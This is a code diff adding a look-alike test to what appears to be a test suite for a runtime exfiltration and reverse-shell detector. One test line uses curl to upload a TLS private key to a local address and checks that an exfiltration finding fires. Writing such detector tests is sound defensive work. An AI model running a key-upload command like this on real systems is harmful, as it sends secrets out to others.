@@ -1,4 +1,4 @@
-import { spawn } from 'node:child_process';
+import { execFileSync, spawn } from 'node:child_process';
 import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -241,6 +241,35 @@ describe('live: reverse shells (shell.stdio-over-socket)', () => {
 });
 
 describe('live: look-alikes that must not fire', () => {
+  it('a local TLS server reads its own key and serves on a connection it accepted', async () => {
+    const tls = join(dir, 'tls');
+    mkdirSync(tls, { recursive: true });
+    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(tls, 'server.key'), '-out', join(tls, 'server.pem'), '-days', '1', '-subj', '/CN=127.0.0.2'], { stdio: 'ignore' });
+    const port = 20000 + (process.pid % 20000);
+    writeFileSync(
+      join(tls, 'server.py'),
+      [
+        'import socket, ssl',
+        'ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)',
+        `ctx.load_cert_chain("${join(tls, 'server.pem')}", "${join(tls, 'server.key')}")`,
+        's = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)',
+        `s.bind(("127.0.0.2", ${port})); s.listen(1)`,
+        'c, _ = s.accept(); t = ctx.wrap_socket(c, server_side=True); t.recv(4096)',
+        't.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nok"); t.close()',
+      ].join('\n'),
+    );
+    // the client is not the server's child (a child would inherit what the server read)
+    const r = await h.run('tls-server', `python3 ${join(tls, 'server.py')} & sleep 1; curl -sk -m 10 https://127.0.0.2:${port}/ -o ${join(tls, 'got')}; wait`);
+    expect(r.code).toBe(0);
+    expect(readFileSync(join(tls, 'got'), 'utf8')).toBe('ok');
+    const keyRead = r.events.find((e) => e.kind === 'io' && e.dir === 'in' && e.res?.fd?.path === join(tls, 'server.key'));
+    expect(keyRead, 'the server read its key').toBeDefined();
+    expect(r.findings).toEqual([]);
+    // the same key sent out on a connection the process opened is exfiltration
+    const out = await h.run('tls-key-out', `curl -s -m 10 -T ${join(tls, 'server.key')} ${url()} -o /dev/null`);
+    expect(only(out.findings)).toMatchObject({ rule: 'exfil.read-then-transmit', source: { path: join(tls, 'server.key'), data_class: 'tls-key' } });
+  });
+
   it('download then write: curl -o out http://127.0.0.2:PORT/', async () => {
     const r = await h.run('download', `curl -s -m 10 -o ${join(dir, 'download.out')} ${url()}`);
     expect(r.code).toBe(0);
